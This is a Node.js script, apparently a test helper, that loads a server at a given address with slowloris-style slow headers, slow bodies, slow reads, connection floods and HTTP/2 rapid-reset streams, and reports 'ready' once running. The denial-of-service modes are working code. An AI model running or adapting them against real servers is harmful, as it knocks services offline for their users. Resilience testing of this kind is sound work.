// Does harm to ADDRESS (host:port) in the manner of MODE with COUNT connections, says "ready" when it is at it, and goes on until its input ends.
import http2 from 'node:http2';
import net from 'node:net';

const { ADDRESS = '', MODE, COUNT } = process.env;
const [host, port] = ADDRESS.split(':');
const count = Number(COUNT);
const sockets = new Set();
let opened = 0;

/** From many addresses, because the ports of one are not enough. */
function connect(onConnect) {
  const socket = net.connect({ host, port: Number(port), localAddress: `127.0.0.${2 + (opened++ % 60)}` });
  sockets.add(socket);
  socket.on('connect', () => onConnect(socket));
  socket.on('error', () => {});
  socket.on('close', () => sockets.delete(socket));
  return socket;
}

/** So many at most, in steps, so that the queue of the listener does not overflow. */
async function open(onConnect) {
  for (let n = 0; n < count; n += 100) {
    await Promise.all(
      Array.from({ length: Math.min(100, count - n) }, () => {
        const { promise, resolve } = withResolvers();
        connect((socket) => {
          onConnect(socket);
          resolve();
        }).once('close', resolve);
        return promise;
      }),
    );
  }
}

function withResolvers() {
  let resolve;
  const promise = new Promise((done) => {
    resolve = done;
  });
  return { promise, resolve };
}

/** Each second something, for as long as it is open. */
function drip(socket, text) {
  const timer = setInterval(() => socket.write(text), 1000);
  socket.once('close', () => clearInterval(timer));
}

const modes = {
  idle: () => open((socket) => socket.resume()),
  'slow-head': () =>
    open((socket) => {
      socket.resume();
      socket.write('GET / HTTP/1.1\r\nHost: a\r\n');
      drip(socket, 'X-A: b\r\n');
    }),
  'slow-body': () =>
    open((socket) => {
      socket.resume();
      socket.write('POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n');
      drip(socket, 'x');
    }),
  'slow-reader': () =>
    open((socket) => {
      socket.pause();
      socket.write('GET /large HTTP/1.1\r\nHost: a\r\n\r\n');
      const timer = setInterval(() => socket.read(1024), 1000);
      socket.once('close', () => clearInterval(timer));
    }),
  /** Comes and goes, as fast as it can, with so many at a time. */
  flood: () =>
    open(function again(socket) {
      socket.once('close', () => connect(again));
      socket.end('GET / HTTP/1.1\r\nHost: a\r\n\r\n').resume();
    }),
  /** Requests that are taken back at once, so many on each connection, again and again. */
  resets: async () => {
    const round = () => {
      const session = http2.connect(`https://${ADDRESS}`, { rejectUnauthorized: false });
      session.on('error', () => {});
      session.once('close', () => setTimeout(round, 10));
      session.once('connect', () => {
        for (let n = 0; n < count && !session.destroyed; n++) {
          const stream = session.request({ ':path': '/' });
          stream.on('error', () => {});
          stream.close(http2.constants.NGHTTP2_CANCEL);
        }
        session.close();
      });
    };
    round();
  },
};

process.stdin.on('end', () => process.exit()).resume();
await modes[MODE]();
console.log('ready');
